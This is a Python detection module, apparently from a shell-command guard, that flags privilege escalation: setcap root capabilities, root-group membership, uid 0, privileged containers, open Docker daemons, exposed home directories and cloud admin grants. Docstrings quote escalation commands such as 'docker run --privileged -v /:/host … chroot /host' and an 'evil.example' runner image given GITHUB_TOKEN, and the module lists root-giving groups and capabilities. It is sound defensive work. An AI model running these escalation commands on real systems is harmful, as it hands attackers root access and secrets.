"""Accounts, capabilities and mounts: the ways to root that are not ``sudo``.

- ``setcap`` of a capability that amounts to root (``cap_setuid``, ``cap_sys_admin``, ``cap_dac_override`` …,
  or all of them) on a shell, an interpreter or an editor: anyone who runs it becomes root
  (``priv.escalation``, deny); on another program it asks. ``getcap`` only reads.
- ``passwd -d`` empties a password (a login without one); ``usermod -aG sudo``, ``gpasswd -a u wheel``,
  ``adduser u docker``, ``useradd -G root`` put a user in a group that is root (sudo, wheel, admin, root,
  docker, lxd, disk …); ``usermod -u 0``/``useradd -o -u 0`` give a user root's id: deny.
- ``userdel``/``deluser`` delete an account (``-r``: with its home directory): ``system.accounts`` asks.
- ``mount`` of something (``-o remount,rw /``, ``--bind``), ``umount`` (``-l /``): ``system.mount`` asks;
  ``mount`` alone lists.
"""
from __future__ import annotations

import re
from typing import Final

from phlegyas.analysis.environment import secret_variables
from phlegyas.analysis.paths import sensitive_reason
from phlegyas.analysis.shell.invocation import Invocation
from phlegyas.analysis.tier1.base import RUNS_ANYTHING, Out, add, parse_opts, piped_text
from phlegyas.analysis.tier1.words import path_of
from phlegyas.core.analysis import AnalysisEnv
from phlegyas.core.model import Verdict
from phlegyas.core.redact import secret_kind

ROOT_CAPABILITIES: Final = frozenset({
    "cap_setuid", "cap_setgid", "cap_sys_admin", "cap_dac_override", "cap_dac_read_search", "cap_sys_ptrace",
    "cap_sys_module", "cap_chown", "cap_fowner", "cap_sys_rawio", "cap_setfcap", "cap_setpcap", "cap_mknod",
    "cap_bpf", "cap_sys_boot", "all",
})
"""Each of these is root by another name (GTFOBins' capabilities list: set the uid, read or write any file,
load a kernel module, trace another process)."""
ROOT_GROUPS: Final = frozenset({"sudo", "wheel", "admin", "root", "docker", "lxd", "lxc", "disk", "shadow", "libvirt",
                                "kvm", "adm", "staff", "sudoers"})


def detect_setcap(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    texts = [w.text for w in inv.args]
    if "-r" in texts or "-v" in texts or not texts:
        return  # removing capabilities, or only verifying them
    operands = [t for t in texts if not t.startswith("-")]
    for i, spec in enumerate(operands[:-1]):
        caps = _capabilities(spec)
        if not caps:
            continue
        target = operands[i + 1]
        base = target.rsplit("/", 1)[-1]
        program = base.rstrip("0123456789.") or base
        what = ", ".join(sorted(caps))
        named = {w.rstrip("0123456789.") for w in re.findall(r"[\w.+-]+", target)} if "$(" in target else set()
        if base in RUNS_ANYTHING or program in RUNS_ANYTHING or named & RUNS_ANYTHING:
            add(out, "priv.escalation", inv, f"setcap gives {target} {what}: anyone who runs it becomes root")
        else:
            add(out, "priv.escalation", inv, f"setcap gives {target} {what}, a capability that amounts to root",
                Verdict.ASK)
        return


def _capabilities(spec: str) -> set[str]:
    """The root-giving capabilities a ``setcap`` clause grants (``cap_setuid+ep``, ``=ep``: all of them)."""
    found: set[str] = set()
    for clause in spec.lower().split():
        names, _, flags = clause.partition("+") if "+" in clause else clause.partition("=")
        if "-" in clause and "+" not in clause and "=" not in clause:
            continue
        if not names or names == "all":
            if "e" in flags or "p" in flags or clause.startswith("="):
                found.add("every capability")
            continue
        found.update(n for n in names.split(",") if n in ROOT_CAPABILITIES)
    return found


def detect_passwd(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    opts = parse_opts(inv.args, short_values="nxwiSR", long_values=frozenset({"--root", "--prefix"}))
    if opts.has("-d", "--delete"):
        user = opts.operands[0].text if opts.operands else "the current user"
        add(out, "priv.escalation", inv, f"passwd -d empties the password of {user}: anyone may log in as them")


def detect_chpasswd(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``echo 'root:toor' | chpasswd``: root's password set to one the line shows (anyone reading it is root)."""
    texts, _ = piped_text(inv)
    if any(line.strip().startswith("root:") for t in texts for line in t.splitlines()):
        add(out, "priv.escalation", inv, "chpasswd sets root's password to one written in the command line")


def detect_usermod(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """usermod/useradd/gpasswd/adduser/addgroup: a user made root (a root group, uid 0)."""
    prog = inv.program
    texts = [w.text for w in inv.args]
    if prog in ("usermod", "useradd", "adduser"):
        opts = parse_opts(inv.args, short_values="gGucdeflLpsKkRPUZb",
                          long_values=frozenset({"--groups", "--gid", "--uid", "--home", "--shell", "--comment",
                                                 "--root", "--prefix", "--ingroup"}))
        groups = [g for v in opts.values("-G", "--groups", "-g", "--gid", "--ingroup") for g in v.split(",")]
        if prog == "adduser" and len(opts.operands) == 2:
            groups.append(opts.operands[1].text)  # `adduser USER GROUP`
        uid = opts.first("-u", "--uid")
        if uid == "0":
            add(out, "priv.escalation", inv, f"{prog} -u 0 gives a user root's id")
            return
        if prog == "usermod" and (opts.has("-p", "--password") or opts.has("-U", "--unlock")) and [
                w.text for w in opts.operands[-1:]] == ["root"]:
            add(out, "priv.escalation", inv, "usermod sets or unlocks root's password")
            return
        hit = next((g for g in groups if g in ROOT_GROUPS or g == "0"), None)
        if hit is not None:
            add(out, "priv.escalation", inv, f"{prog} puts a user in the group {hit}, which is root by another name")
    elif prog == "gpasswd":
        opts = parse_opts(inv.args, short_values="adArRM")
        if opts.has("-a", "-M") and opts.operands and opts.operands[-1].text in ROOT_GROUPS:
            add(out, "priv.escalation", inv, f"gpasswd adds a user to the group {opts.operands[-1].text}, which is "
                                             "root by another name")
    elif prog == "addgroup" and len([t for t in texts if not t.startswith("-")]) == 2:
        group = [t for t in texts if not t.startswith("-")][1]
        if group in ROOT_GROUPS:
            add(out, "priv.escalation", inv, f"addgroup puts a user in the group {group}, which is root by another name")


def detect_userdel(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    texts = [w.text for w in inv.args]
    if any(t in ("-h", "--help") for t in texts):
        return
    user = next((t for t in reversed(texts) if not t.startswith("-")), "an account")
    home = any(t in ("-r", "--remove", "--remove-home", "--remove-all-files") or
               t.startswith("-") and not t.startswith("--") and "r" in t for t in texts)
    add(out, "system.accounts", inv, f"{inv.program} deletes the account {user}"
                                     + (" with its home directory and mail" if home else ""))


_MOUNT_LIST: Final = frozenset({"-l", "--show-labels", "-h", "--help", "-V", "--version"})


def detect_mount(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    texts = [w.text for w in inv.args]
    prog = inv.program
    if prog == "mount":
        opts = parse_opts(inv.args, short_values="otLUOTNB", long_values=frozenset({"--options", "--types",
                                                                                    "--target", "--source"}))
        if not opts.operands and not opts.has("-a", "--all", "-o", "--options", "--bind", "--rbind", "--move",
                                               "-B", "-M", "-R"):
            return  # `mount`, `mount -l`, `mount -t ext4`: a listing
        options = ",".join(opts.values("-o", "--options"))
        where = opts.operands[-1].text if opts.operands else "every filesystem in fstab"
        what = "remounts" if "remount" in options else "mounts"
        rw = " read-write" if "rw" in options.split(",") else ""
        add(out, "system.mount", inv, f"mount {what} {where}{rw}")
        return
    if all(t in _MOUNT_LIST for t in texts):
        return
    where = next((t for t in reversed(texts) if not t.startswith("-")), "a filesystem")
    lazy = any(t in ("-l", "--lazy") or t.startswith("-") and not t.startswith("--") and "l" in t for t in texts)
    add(out, "system.mount", inv, f"{prog} detaches {where}" + (" lazily, even while in use" if lazy else ""))


# -- containers and clusters that hand out the host or the cluster ----------------------------------------

_PRIVILEGED_POD: Final = re.compile(r'"(?:privileged|hostPID|hostNetwork|hostIPC)"\s*:\s*true|"hostPath"\s*:\s*\{\s*'
                                    r'"path"\s*:\s*"/"')


def detect_cluster_admin(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=…``: a service
    account (any pod's) made cluster-admin; ``kubectl run … --overrides='{… "privileged": true …}'`` or
    ``hostPID``/a ``hostPath`` of ``/``: a pod that is root on its node (``priv.escalation``, deny)."""
    texts = [w.text for w in inv.args]
    words = [t for t in texts if not t.startswith("-")]
    if words[:2] in (["create", "clusterrolebinding"], ["create", "rolebinding"]) and any(
            t in ("--clusterrole=cluster-admin", "--clusterrole=admin") or t == "--clusterrole" and i + 1 < len(texts)
            and texts[i + 1] in ("cluster-admin", "admin") for i, t in enumerate(texts)):
        add(out, "priv.escalation", inv, f"kubectl {words[1]} gives {words[2] if len(words) > 2 else 'someone'} "
                                         "cluster-admin: every secret and node of the cluster")
    elif words[:1] in (["run"], ["debug"]) and any(_PRIVILEGED_POD.search(t) for t in texts) or (
            words[:1] == ["debug"] and any(t.startswith("node/") for t in words) and "--profile=sysadmin" in texts):
        add(out, "priv.escalation", inv, "kubectl starts a privileged pod: root on the node it runs on")


def detect_host_root(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``docker run --privileged -v /:/host …``, ``-v /:/host … chroot /host`` or ``--privileged --pid=host …
    nsenter -t 1``: a container that is root on this machine (``priv.escalation``, deny); ``--privileged`` or
    ``--pid=host`` alone asks."""
    texts = [w.text for w in inv.args]
    if not texts or texts[0] not in ("run", "create", "exec"):
        return
    mounts_root = any(t in ("-v", "--volume") and i + 1 < len(texts) and texts[i + 1].split(":", 1)[0] == "/"
                      or t.startswith(("-v/:", "--volume=/:")) for i, t in enumerate(texts))
    privileged = any(t in ("--privileged", "--pid=host", "--cap-add=ALL", "--cap-add=SYS_ADMIN") for t in texts)
    homes = ("~", "$HOME", "${HOME}", env.home, "/root", "/home")
    mounts_home = any(t in ("-v", "--volume") and i + 1 < len(texts) and texts[i + 1].split(":", 1)[0].rstrip("/")
                      in homes for i, t in enumerate(texts))
    image = _image(texts[1:])
    given = "the home directory mounted" if mounts_home else "this machine's root file system mounted" if \
        mounts_root else _secrets_given(texts, env)
    if given and image is not None and _foreign_registry(image):
        add(out, "net.pipe_to_shell", inv, f"{inv.program} runs the image {image}, fetched from "
                                           f"{image.split('/', 1)[0]}, with {given}: its code gets every key and "
                                           "token there")
        return
    if mounts_root and (privileged or "chroot" in texts) or privileged and "nsenter" in texts and "1" in texts:
        add(out, "priv.escalation", inv, f"{inv.program} runs a container with this machine's root file system "
                                         "mounted and root's powers: root on this machine")
    elif privileged:
        add(out, "priv.escalation", inv, f"{inv.program} runs a privileged container (root on this machine)",
            Verdict.ASK)



_RUN_VALUES: Final = frozenset({"-v", "--volume", "-e", "--env", "--name", "-w", "--workdir", "-p", "--publish",
                                 "--network", "--net", "-u", "--user", "--entrypoint", "--env-file", "--mount",
                                 "--platform", "-h", "--hostname", "--label", "-l", "--cpus", "-m", "--memory",
                                 "--add-host", "--device", "--pid", "--ipc", "--restart", "--cap-add", "--cap-drop"})
_KNOWN_REGISTRIES: Final = ("docker.io/", "ghcr.io/", "mcr.microsoft.com/", "public.ecr.aws/", "quay.io/",
                            "registry.k8s.io/", "gcr.io/", "registry.gitlab.com/", "localhost", "127.0.0.1")


def _image(texts: list[str]) -> str | None:
    """The image of ``docker run OPTIONS IMAGE …``: the first word that is neither an option nor its value."""
    i = 0
    while i < len(texts):
        t = texts[i]
        if t.startswith("-"):
            i += 2 if t in _RUN_VALUES else 1
            continue
        return t
    return None


def detect_open_daemon(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``dockerd -H tcp://0.0.0.0:2375`` without TLS: the Docker API (root on this machine) open to the network."""
    texts = [w.text for w in inv.args]
    hosts = [texts[i + 1] for i, t in enumerate(texts[:-1]) if t in ("-H", "--host")] + [
        t.split("=", 1)[1] for t in texts if t.startswith("--host=")]
    if "--tlsverify" in texts:
        return
    exposed = next((h for h in hosts if re.match(r"tcp://(?:0\.0\.0\.0|\[::\]|::|\*)?:\d+", h)
                    or re.match(r"tcp://(?!127\.|localhost|\[::1\])[\w.\[\]:-]+:\d+", h)), None)
    if exposed is not None:
        add(out, "priv.escalation", inv, f"dockerd listens on {exposed} without TLS: anyone who reaches it is root "
                                         "on this machine")


def detect_exposed_files(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``ngrok http file:///home/u``: a public URL serving the home directory (every key and token in it)."""
    for w in inv.args:
        if w.text.startswith("file://") and (p := path_of(w.text[len("file://"):] or "/", env)) is not None and (
                p in (env.home, "/") or sensitive_reason(p, env.home)):
            add(out, "net.exfiltration", inv, f"{inv.program} serves {p} at a public URL: whoever has it reads every "
                                              "file there, keys and tokens included")
            return


def detect_lxc_host_root(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``lxc config device add C host disk source=/ path=/mnt/host``: the host's root in a container (with
    ``security.privileged=true``, root on the host)."""
    texts = [w.text for w in inv.args]
    if texts[:3] == ["config", "device", "add"] and "disk" in texts and any(
            t in ("source=/", "source=" + env.home) for t in texts):
        add(out, "priv.escalation", inv, "lxc mounts this machine's root file system (or home) into a container: "
                                         "its root is then root here")


def detect_act_image(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``act -s GITHUB_TOKEN -P ubuntu-latest=evil.example/runner``: the workflow's secrets handed to a runner
    image from a registry of its own."""
    texts = [w.text for w in inv.args]
    images = [v.split("=", 1)[1] for i, t in enumerate(texts[:-1]) if t in ("-P", "--platform")
              for v in (texts[i + 1],) if "=" in v] + [t.split("=", 2)[2] for t in texts
                                                       if t.startswith("--platform=") and t.count("=") >= 2]
    secrets = any(t in ("-s", "--secret", "--secret-file", "--env-file") or t.startswith("--secret") for t in texts)
    foreign = next((i for i in images if _foreign_registry(i)), None)
    if foreign is not None and secrets:
        add(out, "net.pipe_to_shell", inv, f"act runs the workflow in {foreign}, fetched from {foreign.split('/')[0]}, "
                                           "and hands it the secrets given: its code gets them")


def _secrets_given(texts: list[str], env: AnalysisEnv) -> str | None:
    """What secrets ``docker run`` hands its container: a secret variable (``-e GITHUB_TOKEN``, ``-e
    K=$AWS_SECRET_ACCESS_KEY``), an env file, a mount of a secret directory (``-v ~/.aws:/root/.aws``)."""
    for i, t in enumerate(texts[:-1]):
        value = texts[i + 1]
        if t in ("-e", "--env") and (secret_kind(value.split("=", 1)[0]) is not None or secret_variables(value)):
            return f"the secret variable {value.split('=', 1)[0]}"
        if t == "--env-file":
            return f"the variables of {value}"
        if t in ("-v", "--volume") and (p := path_of(value.split(":", 1)[0], env)) and sensitive_reason(p, env.home):
            return f"{value.split(':', 1)[0]} mounted"
    return None


def _foreign_registry(image: str) -> bool:
    """An image pulled from a host of its own (``evil.example/tools/x``), not a well-known registry."""
    head = image.split("/", 1)[0]
    return "/" in image and ("." in head or ":" in head) and not image.startswith(_KNOWN_REGISTRIES)


_CLOUD_ADMIN: Final = re.compile(r"AdministratorAccess|IAMFullAccess|arn:aws:iam::aws:policy/PowerUserAccess|"
                                 r"roles/(?:owner|editor|iam\.securityAdmin|resourcemanager\.organizationAdmin)|"
                                 r"^(?:Owner|Contributor|User Access Administrator)$|\"Action\"\s*:\s*\"\*\"")


def detect_cloud_admin(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``aws iam attach-user-policy … AdministratorAccess``, ``gcloud projects add-iam-policy-binding …
    --role=roles/owner``, ``az role assignment create --role Owner``: an account made administrator of the
    cloud account (``priv.escalation``, deny)."""
    texts = [w.text for w in inv.args]
    verbs = {"attach-user-policy", "attach-role-policy", "attach-group-policy", "put-user-policy", "put-role-policy",
             "add-iam-policy-binding", "create"}
    if not any(t in verbs for t in texts[:4]) or inv.program == "az" and texts[:2] != ["role", "assignment"]:
        return
    values = [t.split("=", 1)[1] if t.startswith("--") and "=" in t else t for t in texts]
    if any(_CLOUD_ADMIN.search(v) for v in values):
        add(out, "priv.escalation", inv, f"{inv.program} makes an account an administrator of the cloud account")
